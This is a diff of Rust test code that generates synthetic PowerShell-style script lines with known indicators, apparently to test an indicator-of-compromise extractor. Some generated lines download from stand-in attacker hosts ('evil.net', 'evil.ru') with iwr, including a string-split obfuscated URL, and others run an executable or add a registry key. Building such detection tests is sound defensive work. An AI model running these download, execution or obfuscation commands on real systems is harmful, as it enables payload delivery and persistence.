@@ -15,6 +15,9 @@ struct Block {
     left_out: Vec<(&'static str, String)>,
 }
 
+/// A line of a script, its indicators, and the value in it that is left out.
+type Line = (String, Vec<(&'static str, String)>, Option<(&'static str, String)>);
+
 /// Makes so many blocks with known indicators by a small generator of numbers.
 fn blocks(count: usize) -> Vec<Block> {
     let mut state = 7_u64;
@@ -29,58 +32,57 @@ fn blocks(count: usize) -> Vec<Block> {
         let mut left_out = Vec::new();
         for _ in 0..next(4) {
             let number = next(40);
-            let (line, values, out): (String, Vec<(&str, String)>, Option<(&str, String)>) =
-                match next(10) {
-                    0 => {
-                        let (host, url) =
-                            (format!("c{number}.evil.net"), format!("http://c{number}.evil.net/p"));
-                        (format!("iwr '{url}' -o x"), vec![("url", url), ("host", host)], None)
-                    }
-                    1 => {
-                        let (host, url) =
-                            (format!("j{number}.evil.ru"), format!("https://j{number}.evil.ru/q"));
-                        let (left, right) = url.split_at(11);
-                        (
-                            format!("iwr ('{left}'+'{right}')"),
-                            vec![("url", url.clone()), ("host", host)],
-                            None,
-                        )
-                    }
-                    2 => {
-                        let value = format!("10.9.{number}.1");
-                        (format!("ping {value}"), vec![("ipv4", value)], None)
-                    }
-                    3 => {
-                        let value = format!("{number:032x}").replace('0', "d");
-                        let value = format!("1{}", &value[1..]);
-                        (format!("$h -eq '{value}'"), vec![("md5", value)], None)
-                    }
-                    4 => {
-                        let value = format!("C:\\Users\\u{number}\\a.exe");
-                        (format!("& '{value}'"), vec![("path", value)], None)
-                    }
-                    5 => {
-                        let value = format!("HKCU\\Software\\k{number}");
-                        (format!("reg add {value} /f"), vec![("registry-key", value)], None)
-                    }
-                    6 => {
-                        let value = format!("1.2.3.{number}");
-                        (format!("$version = '{value}'"), vec![], Some(("version", value)))
-                    }
-                    7 => {
-                        let value = format!("203.0.113.{number}");
-                        (format!("ping {value}"), vec![], Some(("documentation", value)))
-                    }
-                    8 => {
-                        let value = format!("http://schemas.microsoft.com/{number}");
-                        (format!("xmlns='{value}'"), vec![], Some(("schema", value)))
-                    }
-                    _ => (
-                        format!("ping 127.0.0.{number}"),
-                        vec![],
-                        Some(("loopback", format!("127.0.0.{number}"))),
-                    ),
-                };
+            let (line, values, out): Line = match next(10) {
+                0 => {
+                    let (host, url) =
+                        (format!("c{number}.evil.net"), format!("http://c{number}.evil.net/p"));
+                    (format!("iwr '{url}' -o x"), vec![("url", url), ("host", host)], None)
+                }
+                1 => {
+                    let (host, url) =
+                        (format!("j{number}.evil.ru"), format!("https://j{number}.evil.ru/q"));
+                    let (left, right) = url.split_at(11);
+                    (
+                        format!("iwr ('{left}'+'{right}')"),
+                        vec![("url", url.clone()), ("host", host)],
+                        None,
+                    )
+                }
+                2 => {
+                    let value = format!("10.9.{number}.1");
+                    (format!("ping {value}"), vec![("ipv4", value)], None)
+                }
+                3 => {
+                    let value = format!("{number:032x}").replace('0', "d");
+                    let value = format!("1{}", &value[1..]);
+                    (format!("$h -eq '{value}'"), vec![("md5", value)], None)
+                }
+                4 => {
+                    let value = format!("C:\\Users\\u{number}\\a.exe");
+                    (format!("& '{value}'"), vec![("path", value)], None)
+                }
+                5 => {
+                    let value = format!("HKCU\\Software\\k{number}");
+                    (format!("reg add {value} /f"), vec![("registry-key", value)], None)
+                }
+                6 => {
+                    let value = format!("1.2.3.{number}");
+                    (format!("$version = '{value}'"), vec![], Some(("version", value)))
+                }
+                7 => {
+                    let value = format!("203.0.113.{number}");
+                    (format!("ping {value}"), vec![], Some(("documentation", value)))
+                }
+                8 => {
+                    let value = format!("http://schemas.microsoft.com/{number}");
+                    (format!("xmlns='{value}'"), vec![], Some(("schema", value)))
+                }
+                _ => (
+                    format!("ping 127.0.0.{number}"),
+                    vec![],
+                    Some(("loopback", format!("127.0.0.{number}"))),
+                ),
+            };
             text.push_str(&line);
             text.push('\n');
             right.extend(values);
